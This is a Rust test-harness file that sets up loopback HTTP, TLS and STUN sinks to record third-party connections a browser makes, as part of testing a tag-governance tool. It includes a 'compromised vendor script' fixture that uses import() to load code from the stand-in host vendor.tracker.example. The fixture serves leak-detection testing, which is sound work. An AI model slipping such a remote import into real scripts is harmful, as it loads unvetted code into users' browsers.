//! Loopback sinks that stand in for "the rest of the internet": with
//! `--host-resolver-rules="MAP * 127.0.0.1"` every third-party URL on a
//! default port connects here. Port 80 records the HTTP `Host` of each
//! request (and answers 204); port 443 records the TLS ClientHello's SNI,
//! parsed by hand, then closes. UDP sinks on the STUN ports count WebRTC ICE
//! traffic. (The vetted vendor tagwarden's first-party path forwards to is the
//! demo vendor, `tagwarden::demo::vendor`, reached through `[vendors] resolve`.)

use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::time::Instant;

/// How long a sink waits for a connection's first bytes (a speculative
/// preconnect sends nothing until it is used).
const FIRST_BYTES_GUARD: Duration = Duration::from_secs(20);
/// Largest request head / ClientHello read.
const MAX_HEAD: usize = 64 << 10;
/// A vetted vendor script (served first-party) that tries to load code from a
/// host its rule does not name, with `import()`: the nonce it was given travels
/// with the module fetch. The suite adds it to the demo vendor's routes.
pub const VENDOR_IMPORT: (&str, &str, &str, &str) = (
    "static.zdassets.com",
    "/ekr/vendor-import.js",
    "application/javascript",
    "/* compromised vendor script */\nimport(\"https://vendor.tracker.example/v.js\").catch(function () {});\n",
);

/// One connection a sink accepted.
#[derive(Debug, Clone)]
pub struct Hit {
    /// Local port it arrived on (80 or 443).
    pub port: u16,
    /// `Host` (port 80, port stripped) or SNI (443); `None`
    /// until the connection has said something, or if it never names a host.
    pub host: Option<String>,
    /// The request line, `TLS ClientHello`, or what went wrong.
    pub what: String,
    pub at: Instant,
}

impl std::fmt::Display for Hit {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, ":{} host={} ({})", self.port, self.host.as_deref().unwrap_or("<none>"), self.what)
    }
}

/// Every connection every sink accepted, in acceptance order.
#[derive(Debug, Clone, Default)]
pub struct HitLog(Arc<Mutex<Vec<Hit>>>);

impl HitLog {
    fn lock(&self) -> std::sync::MutexGuard<'_, Vec<Hit>> {
        self.0.lock().unwrap_or_else(|p| p.into_inner())
    }

    /// Number of connections so far (a position to snapshot).
    pub fn len(&self) -> usize {
        self.lock().len()
    }

    /// Connections `from..to`, as they stand now.
    pub fn slice(&self, from: usize, to: usize) -> Vec<Hit> {
        self.lock()[from..to].to_vec()
    }

    /// When the last connection arrived or last said something.
    pub fn last_activity(&self) -> Option<Instant> {
        self.lock().iter().map(|h| h.at).max()
    }

    fn push(&self, port: u16) -> usize {
        let mut log = self.lock();
        log.push(Hit { port, host: None, what: "connected, nothing sent yet".into(), at: Instant::now() });
        log.len() - 1
    }

    fn update(&self, idx: usize, host: Option<String>, what: String) {
        if let Some(h) = self.lock().get_mut(idx) {
            h.host = host;
            h.what = what;
            h.at = Instant::now();
        }
    }
}

#[derive(Debug)]
pub struct Sinks {
    /// Ports 80 and 443.
    pub web: HitLog,
    /// UDP datagrams on the STUN/TURN ports (WebRTC ICE), by local port.
    pub udp: UdpLog,
}

/// STUN/TURN over UDP for ICE servers that must never be contacted.
pub const STUN_PORT: u16 = 3478;
/// STUN for the ICE server of an allowed vendor (must be contacted on its page).
pub const VENDOR_STUN_PORT: u16 = 3479;

/// Every UDP datagram the STUN sinks received: the local port, in arrival order.
#[derive(Debug, Clone, Default)]
pub struct UdpLog(Arc<Mutex<Vec<u16>>>);

impl UdpLog {
    fn lock(&self) -> std::sync::MutexGuard<'_, Vec<u16>> {
        self.0.lock().unwrap_or_else(|p| p.into_inner())
    }
    pub fn len(&self) -> usize {
        self.lock().len()
    }
    pub fn slice(&self, from: usize, to: usize) -> Vec<u16> {
        self.lock()[from..to].to_vec()
    }
}

async fn udp_sink(port: u16, log: UdpLog) -> Result<(), String> {
    let sock = tokio::net::UdpSocket::bind(("127.0.0.1", port))
        .await
        .map_err(|e| format!("cannot bind the UDP 127.0.0.1:{port} STUN sink ({e})"))?;
    tokio::spawn(async move {
        let mut buf = [0u8; 2048];
        while sock.recv_from(&mut buf).await.is_ok() {
            log.lock().push(port);
        }
    });
    Ok(())
}

impl Sinks {
    /// Binds 127.0.0.1:80, 127.0.0.1:443 and the UDP STUN ports.
    pub async fn start() -> Result<Sinks, String> {
        let bind = |port: u16| async move {
            TcpListener::bind(("127.0.0.1", port)).await.map_err(|e| {
                format!(
                    "cannot bind the 127.0.0.1:{port} sink ({e}). The browser suite needs ports 80 and 443 \
                     on loopback (run as root, with nothing else listening there): every third-party URL \
                     the browser tries must land on a sink, or a leak would go unseen"
                )
            })
        };
        let http = bind(80).await?;
        let https = bind(443).await?;
        let web = HitLog::default();
        tokio::spawn(accept(http, web.clone(), Kind::Http));
        tokio::spawn(accept(https, web.clone(), Kind::Tls));
        let udp = UdpLog::default();
        udp_sink(STUN_PORT, udp.clone()).await?;
        udp_sink(VENDOR_STUN_PORT, udp.clone()).await?;
        Ok(Sinks { web, udp })
    }
}

#[derive(Debug, Clone, Copy)]
enum Kind {
    Http,
    Tls,
}

async fn accept(listener: TcpListener, log: HitLog, kind: Kind) {
    let port = listener.local_addr().map(|a| a.port()).unwrap_or(0);
    loop {
        let Ok((sock, _)) = listener.accept().await else { continue };
        let idx = log.push(port);
        let log = log.clone();
        tokio::spawn(async move {
            let (host, what) = match tokio::time::timeout(FIRST_BYTES_GUARD, serve(sock, kind)).await {
                Ok(r) => r,
                Err(_) => (None, format!("no request within {FIRST_BYTES_GUARD:?} (idle preconnect?)")),
            };
            log.update(idx, host, what);
        });
    }
}

async fn serve(mut sock: TcpStream, kind: Kind) -> (Option<String>, String) {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 8192];
    loop {
        match sock.read(&mut chunk).await {
            Ok(0) | Err(_) => {
                let what = if buf.is_empty() { "closed without sending anything" } else { "closed mid-request" };
                // What arrived may still name the host.
                return match classify(&buf) {
                    Parsed::Done(host, w) => (host, w),
                    _ => (None, what.to_string()),
                };
            }
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
        match classify(&buf) {
            Parsed::NeedMore if buf.len() < MAX_HEAD => continue,
            Parsed::NeedMore => return (None, format!("{} bytes without a complete request head", buf.len())),
            Parsed::Done(host, what) => {
                if what.starts_with("TLS") {
                    // Recorded; closing makes the handshake fail, nothing is served.
                    return (host, what);
                }
                let resp = match kind {
                    Kind::Http | Kind::Tls => {
                        "HTTP/1.1 204 No Content\r\ncontent-length: 0\r\nconnection: close\r\n\r\n".to_string()
                    }
                };
                let _ = sock.write_all(resp.as_bytes()).await;
                let _ = sock.shutdown().await;
                return (host, what);
            }
        }
    }
}

enum Parsed {
    NeedMore,
    Done(Option<String>, String),
}

/// TLS (first byte 22, a handshake record) or an HTTP request head.
fn classify(buf: &[u8]) -> Parsed {
    if buf.is_empty() {
        return Parsed::NeedMore;
    }
    if buf[0] == 22 {
        return match client_hello_sni(buf) {
            Ok(Some(sni)) => Parsed::Done(Some(sni), "TLS ClientHello".into()),
            Ok(None) => Parsed::Done(None, "TLS ClientHello without server_name".into()),
            Err(Incomplete) => Parsed::NeedMore,
        };
    }
    let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") else { return Parsed::NeedMore };
    let head = String::from_utf8_lossy(&buf[..end]);
    let mut lines = head.split("\r\n");
    let request_line = lines.next().unwrap_or_default().to_string();
    let host = lines
        .filter_map(|l| l.split_once(':'))
        .find(|(n, _)| n.trim().eq_ignore_ascii_case("host"))
        .map(|(_, v)| strip_port(v.trim()).to_ascii_lowercase());
    // Keep the request line short: the path is not needed to attribute a host.
    let mut what: String = request_line.chars().take(160).collect();
    if what.len() < request_line.len() {
        what.push('…');
    }
    Parsed::Done(host, what)
}

/// `host:port` → `host`, `[v6]:port` → `[v6]`.
pub fn strip_port(hostport: &str) -> String {
    if hostport.starts_with('[') {
        return hostport.split_inclusive(']').next().unwrap_or(hostport).to_string();
    }
    match hostport.rsplit_once(':') {
        Some((h, p)) if p.chars().all(|c| c.is_ascii_digit()) => h.to_string(),
        _ => hostport.to_string(),
    }
}

/// More bytes are needed (or the bytes are not a ClientHello at all).
#[derive(Debug, PartialEq, Eq)]
pub struct Incomplete;

/// The ClientHello's `server_name`, read by rustls's own parser (the
/// `Acceptor` under `tokio_rustls::LazyConfigAcceptor`), which reassembles the
/// handshake message across TLS records. `Err(Incomplete)` means "read more";
/// bytes rustls refuses as a ClientHello yield `Ok(None)`.
pub fn client_hello_sni(buf: &[u8]) -> Result<Option<String>, Incomplete> {
    let mut acceptor = tokio_rustls::rustls::server::Acceptor::default();
    let mut rest = buf;
    while !rest.is_empty() {
        match acceptor.read_tls(&mut rest) {
            Ok(0) => break,
            Ok(_) => {}
            Err(_) => return Ok(None),
        }
    }
    match acceptor.accept() {
        Ok(Some(hello)) => Ok(hello.client_hello().server_name().map(str::to_ascii_lowercase)),
        Ok(None) => Err(Incomplete),
        Err(_) => Ok(None),
    }
}

/// A ClientHello as a browser would send it, for the parser's own tests.
#[cfg(test)]
pub fn sample_client_hello(sni: &str, record_split: Option<usize>) -> Vec<u8> {
    let mut ext = Vec::new();
    // A GREASE extension first, then server_name.
    ext.extend_from_slice(&[0x0a, 0x0a, 0x00, 0x00]);
    let name = sni.as_bytes();
    let mut sn = Vec::new();
    sn.extend_from_slice(&((name.len() + 3) as u16).to_be_bytes());
    sn.push(0);
    sn.extend_from_slice(&(name.len() as u16).to_be_bytes());
    sn.extend_from_slice(name);
    ext.extend_from_slice(&[0x00, 0x00]);
    ext.extend_from_slice(&(sn.len() as u16).to_be_bytes());
    ext.extend_from_slice(&sn);
    // signature_algorithms (every browser sends it; rustls requires it):
    // ecdsa_secp256r1_sha256, rsa_pss_rsae_sha256.
    ext.extend_from_slice(&[0x00, 0x0d, 0x00, 0x06, 0x00, 0x04, 0x04, 0x03, 0x08, 0x04]);
    let mut body = vec![0x03, 0x03];
    body.extend_from_slice(&[7u8; 32]);
    body.push(32);
    body.extend_from_slice(&[9u8; 32]);
    body.extend_from_slice(&[0x00, 0x04, 0x13, 0x01, 0x13, 0x02]);
    body.extend_from_slice(&[0x01, 0x00]);
    body.extend_from_slice(&(ext.len() as u16).to_be_bytes());
    body.extend_from_slice(&ext);
    let mut hs = vec![1, 0, (body.len() >> 8) as u8, body.len() as u8];
    hs.extend_from_slice(&body);
    let record = |frag: &[u8]| {
        let mut r = vec![22, 3, 1];
        r.extend_from_slice(&(frag.len() as u16).to_be_bytes());
        r.extend_from_slice(frag);
        r
    };
    match record_split {
        Some(at) => [record(&hs[..at]), record(&hs[at..])].concat(),
        None => record(&hs),
    }
}
